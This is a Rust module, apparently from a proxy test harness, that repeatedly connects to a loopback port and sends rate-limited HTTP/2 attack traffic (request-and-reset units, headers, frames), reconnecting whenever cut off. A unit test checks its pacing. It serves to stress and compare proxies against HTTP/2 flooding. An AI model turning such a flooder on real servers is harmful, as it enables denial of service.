//! The attacker: one connection at a time, the next once that is cut.

use super::Attack;
use super::frames::{self, PREFACE, SETTINGS};
use crate::compare::Result;
use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::time::{Duration, Instant};

/// Units that are made at a time.
const BATCH: u64 = 64;
/// Those that are due are sent together so often: a proxy reads as often whatever it answers.
const TICK: Duration = Duration::from_millis(1);
/// What comes later comes so much later: the request before it is under way.
const LATER: Duration = Duration::from_millis(2);
/// Sleep while nothing is to be done.
const REST: Duration = Duration::from_micros(200);

/// What an attack came to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Sent {
    /// Connections that were opened.
    pub connections: u64,
    /// Units that were sent on them: requests with their resets, heads, frames.
    pub units: u64,
}

struct Client {
    stream: TcpStream,
    /// To be written now.
    out: Vec<u8>,
    /// And from then on.
    later: Option<(Instant, Vec<u8>)>,
    units: u32,
}

impl Client {
    fn connect(attack: Attack, port: u16) -> std::io::Result<Self> {
        let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
        stream.set_nodelay(true)?;
        stream.set_nonblocking(true)?;
        let mut out = PREFACE.to_vec();
        frames::frame(&mut out, SETTINGS, 0, 0, &[]);
        frames::begin(attack, &mut out);
        Ok(Self { stream, out, later: None, units: 0 })
    }

    /// Writes and reads what can be. `Ok(true)`: something could; an error: it has been cut.
    fn turn(&mut self) -> std::io::Result<bool> {
        let mut moved = false;
        while !self.out.is_empty() {
            match self.stream.write(&self.out) {
                Ok(count) => {
                    self.out.drain(..count);
                    moved = true;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(error) => return Err(error),
            }
        }
        let mut buffer = [0; 16 * 1024];
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Ok(_) => moved = true,
                Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(moved),
                Err(error) => return Err(error),
            }
        }
    }
}

/// Attacks a port of loopback for so long, with so many units a second at most. `meanwhile` is called again and again.
///
/// # Errors
/// When nobody can connect.
pub fn attack(attack: Attack, port: u16, a_second: u64, time: Duration, mut meanwhile: impl FnMut()) -> Result<Sent> {
    let begin = Instant::now();
    let (mut sent, mut client, mut allowed, mut tick) = (Sent::default(), None, 0, begin);
    while begin.elapsed() < time {
        meanwhile();
        let this = match &mut client {
            Some(this) => this,
            none => {
                sent.connections += 1;
                none.insert(Client::connect(attack, port).map_err(|error| format!("connect to the proxy: {error}"))?)
            }
        };
        if let Some((_, bytes)) = this.later.take_if(|(at, _)| *at <= Instant::now()) {
            this.out.extend(bytes);
        }
        if this.out.is_empty() && this.later.is_none() {
            if tick <= Instant::now() {
                allowed = ((begin.elapsed() + TICK).as_secs_f64() * a_second as f64) as u64;
                tick += TICK;
            }
            let count = allowed.saturating_sub(sent.units).min(BATCH);
            let mut later = Vec::new();
            for _ in 0..count {
                frames::unit(attack, sent.connections as u32, this.units, &mut this.out, &mut later);
                this.units += 1;
                sent.units += 1;
            }
            this.later = (!later.is_empty()).then(|| (Instant::now() + LATER, later));
        }
        match this.turn() {
            Ok(true) => {}
            Ok(false) => std::thread::sleep(REST),
            Err(_) => client = None,
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;

    /// Takes connections, cuts each after so many bytes; tells how many there were.
    fn cutting(bytes: usize) -> (u16, std::sync::Arc<std::sync::atomic::AtomicU64>) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let taken = std::sync::Arc::<std::sync::atomic::AtomicU64>::default();
        let count = std::sync::Arc::clone(&taken);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                count.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                let mut seen = vec![0; bytes];
                let _ = stream.read_exact(&mut seen);
                assert!(seen.starts_with(PREFACE));
            }
        });
        (port, taken)
    }

    #[test]
    fn an_attacker_that_is_cut_off_comes_again_and_keeps_to_its_pace() {
        for kind in Attack::ALL {
            let (port, taken) = cutting(200);
            let sent = attack(kind, port, 5_000, Duration::from_millis(300), || {}).unwrap();
            // In 0.3 s and a tick.
            assert!(sent.units > 0 && sent.units <= 5_000, "{}: {sent:?}", kind.name());
            assert!(sent.connections > 1, "{}: {sent:?}", kind.name());
            // The last may still wait to be accepted.
            assert!(taken.load(std::sync::atomic::Ordering::Relaxed) + 1 >= sent.connections.min(2), "{}", kind.name());
        }
    }
}
